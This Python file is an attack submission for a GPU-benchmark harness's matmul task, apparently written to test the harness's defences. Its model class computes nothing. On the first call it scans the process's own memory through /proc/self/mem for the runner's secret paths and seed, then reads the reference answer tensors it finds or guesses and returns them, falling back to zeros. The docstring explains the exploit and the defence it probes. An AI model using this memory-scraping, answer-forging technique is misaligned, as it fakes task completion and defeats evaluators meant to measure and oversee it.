"""Attack PG-heap_sig_scan (task matmul): search the candidate's own heap
for the runner's secrets, and use what it finds to return the reference's
answer.

Adapts: gpu-mode/pygpubench exploits/submission_heap_sig_scan.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the harness's result signature (a 32-character hex
string in a C++ std::string) lies on the submission's own heap; the
submission scans [heap] for it and forges an authenticated result.  The
same idea drives exploits/submission_aes_key_recovery.py (an obfuscated key
in the harness's arena) and submission_test_canary_direct.py (a canary
found in the process's rw memory and overwritten): see pg_proc_mem_bypass.py
for the reads a page's protection does not stop.

What it does: on its first call, reads every readable private mapping of its
own process ([heap], anonymous memory; 1 GiB at most) through
/proc/self/mem, looking for what would let it answer without computing:
the names of the reference's files (-ref.kt), the runner's event log and
plan (events.jsonl, plan.json, "seed"), the runner's tensor directory; it
records each hit's surrounding text in work/attack-heap-sig-scan.marker.
Every absolute path it finds that names a file of the runner, and the
reference's file guessed from the runner's naming
(../runner/tensors/sNNcK-ref.kt, next to its working directory), it tries
to read; where a reference file can be read it returns its values,
otherwise zeros.

What it exploits (in pygpubench): the harness's secrets share the
submission's address space, so hiding them (in memory, behind a protection)
only slows the search.

What a correct defence must do: no secret of the audit in the candidate's
process (the reference, the plan, the event log and the seed live in
another process and in files it cannot read), so that whatever it finds in
its memory is no answer and its zeros are not semantic PASS.
"""
import os
import re
import struct

import torch
import torch.nn as nn

_PAT = re.compile(rb"-ref\.kt|events\.jsonl|plan\.json|\"seed\"|runner/tensors")
_PATH = re.compile(rb"(/[\x21-\x7e]{1,400}?(?:-ref\.kt|events\.jsonl|plan\.json))")
_state = {"scanned": False, "paths": set(), "call": 0}


def _note(s):
    try:
        with open("attack-heap-sig-scan.marker", "a") as f:
            f.write(s + "\n")
    except OSError:
        pass


def _regions():
    with open("/proc/self/maps") as f:
        for line in f:
            p = line.split()
            if "r" not in p[1] or p[1][3] != "p":
                continue
            name = p[5] if len(p) > 5 else ""
            if name and name not in ("[heap]", "[stack]"):
                continue
            lo, hi = (int(x, 16) for x in p[0].split("-"))
            yield lo, hi, name or "anon"


def _scan():
    total, hits = 0, 0
    fd = os.open("/proc/self/mem", os.O_RDONLY)
    try:
        for lo, hi, name in _regions():
            for off in range(lo, hi, 1 << 24):
                if total > (1 << 30):
                    break
                try:
                    data = os.pread(fd, min(1 << 24, hi - off), off)
                except OSError:
                    continue
                total += len(data)
                for m in _PAT.finditer(data):
                    hits += 1
                    if hits <= 40:
                        ctx = data[max(0, m.start() - 60):m.end() + 20]
                        _note("hit %s+%#x: %r" % (name, off + m.start() - lo, ctx))
                for m in _PATH.finditer(data):
                    _state["paths"].add(m.group(1).decode("ascii", "replace"))
    finally:
        os.close(fd)
    _note("scanned %d bytes: %d hits, %d paths %s" % (total, hits, len(_state["paths"]),
                                                      sorted(_state["paths"])[:20]))


def _read_tensor(path):
    with open(path, "rb") as f:
        d = f.read()
    if d[:8] != b"KATENSR1":
        return None
    off = 16
    (plen,) = struct.unpack_from("<I", d, off)
    off += 4 + plen
    kind, dtype, _, ndim = struct.unpack_from("<BBHI", d, off)
    off += 8
    shape = struct.unpack_from("<%dq" % ndim, d, off)
    off += 8 * ndim
    (nbytes,) = struct.unpack_from("<Q", d, off)
    off += 8
    if kind != 0 or dtype != 3:
        return None
    return torch.frombuffer(bytearray(d[off:off + nbytes]), dtype=torch.float32).reshape(shape).clone()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        if not _state["scanned"]:
            _state["scanned"] = True
            try:
                _scan()
            except Exception as exc:
                _note("scan failed: %r" % (exc,))
        shape = (a.shape[0], b.shape[1])
        guess = os.path.join(os.path.dirname(os.getcwd()), "runner", "tensors", "s%02dc0-ref.kt" % _state["call"])
        _state["call"] += 1
        for p in sorted(_state["paths"]) + [guess]:
            try:
                t = _read_tensor(p) if p.endswith(".kt") else (open(p, "rb").read(1), None)[1]
                _note("read %s: ok" % p)
                if t is not None and tuple(t.shape) == shape:
                    return t.to(a.device)
            except OSError as exc:
                _note("read %s: %s" % (p, exc.strerror))
        return torch.zeros(shape, dtype=a.dtype, device=a.device)
